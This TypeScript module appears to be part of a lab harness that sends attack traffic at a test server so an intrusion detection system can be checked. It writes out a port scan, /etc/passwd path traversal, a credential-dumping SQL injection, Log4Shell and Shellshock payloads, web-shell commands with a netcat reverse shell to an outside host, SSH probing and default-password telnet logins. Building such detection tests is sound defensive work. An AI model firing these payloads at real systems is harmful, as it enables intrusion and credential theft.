import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackName } from '../attack-kinds.ts';
import { ADDRESSES, HOSTS, PORTS } from '../layout.ts';
import { fetchUrl } from './requests.ts';
import { closeSocket, expectText, openSocket } from './sockets.ts';

const { server, outside } = ADDRESSES;
const WEB = `http://${server.ip4}`;
const SCANNED_PORTS = [
  20, 25, 110, 111, 135, 139, 143, 161, 389, 445, 512, 993, 1433, 1521, 1723, 2049, 3306, 3389, 5432, 5900,
  6379, 8080, 9200, 27017,
];

/** A request that a server logs and an IDS must not overlook. */
function web(path: string, headers: Record<string, string>, origin = WEB) {
  return fetchUrl(origin, path, {
    localAddress: origin === WEB ? outside.ip4 : outside.ip6,
    headers: { Host: HOSTS.www, 'User-Agent': 'curl/7.88.1', ...headers },
  });
}

async function portScan(): Promise<void> {
  for (const port of SCANNED_PORTS) {
    const socket = await openSocket({ host: server.ip4, port, localAddress: outside.ip4 }).catch(
      () => undefined,
    );
    socket?.destroy();
    await sleep(20);
  }
}

async function pathTraversal(): Promise<void> {
  await web('/download?file=../../../../etc/passwd', {});
}

async function pathTraversalIp6(): Promise<void> {
  await web('/download?file=../../../../etc/passwd', {}, `http://[${server.ip6}]`);
}

async function sqlInjection(): Promise<void> {
  await web('/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20', {
    'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)',
  });
}

async function log4shell(): Promise<void> {
  await web('/', { 'X-Api-Version': `\${jndi:ldap://${outside.ip4}:1389/a}` });
  await web('/', { 'User-Agent': `\${\${lower:j}ndi:ldap://${outside.ip4}:1389/b}` });
}

async function shellshock(): Promise<void> {
  await web('/cgi-bin/status', { 'User-Agent': '() { :; }; /bin/bash -c "id"' });
}

async function shellCommand(command: string): Promise<void> {
  const body = new URLSearchParams({ cmd: command }).toString();
  await fetchUrl(WEB, '/uploads/shell.php', {
    method: 'POST',
    localAddress: outside.ip4,
    headers: {
      Host: HOSTS.www,
      'User-Agent': 'curl/7.88.1',
      'Content-Type': 'application/x-www-form-urlencoded',
      'Content-Length': String(body.length),
    },
    body,
  });
}

/** @param called resolves when the server has called back. */
async function reverseShell(called: () => Promise<void>): Promise<void> {
  const back = called();
  await shellCommand(`nc ${outside.ip4} ${String(PORTS.shellSink)}`);
  await back;
}

async function sshBruteForce(): Promise<void> {
  for (let guess = 0; guess < 8; guess += 1) {
    const socket = await openSocket({ host: server.ip4, port: PORTS.ssh, localAddress: outside.ip4 });
    await expectText(socket, 'SSH-2.0-');
    socket.write('SSH-2.0-libssh2_1.10.0\r\n');
    await closeSocket(socket);
    await sleep(200);
  }
}

async function telnetLogin(): Promise<void> {
  for (const [user, password] of [
    ['root', '123456'],
    ['root', 'admin'],
    ['root', 'xc3511'],
  ]) {
    const socket = await openSocket({ host: server.ip4, port: PORTS.telnet, localAddress: outside.ip4 });
    await expectText(socket, 'login: ');
    socket.write(`${String(user)}\r\n`);
    await expectText(socket, 'Password: ');
    socket.write(`${String(password)}\r\n`);
    await expectText(socket, 'Login incorrect');
    await closeSocket(socket);
  }
}

/** What the attacker does, by kind. */
export function outsideAttacks(shellCalled: () => Promise<void>): ReadonlyMap<string, () => Promise<void>> {
  return new Map<AttackName, () => Promise<void>>([
    ['port-scan', portScan],
    ['path-traversal', pathTraversal],
    ['path-traversal-ipv6', pathTraversalIp6],
    ['sql-injection', sqlInjection],
    ['log4shell', log4shell],
    ['shellshock', shellshock],
    ['web-shell', () => shellCommand('id')],
    ['reverse-shell', () => reverseShell(shellCalled)],
    ['ssh-brute-force', sshBruteForce],
    ['telnet-login', telnetLogin],
  ]);
}
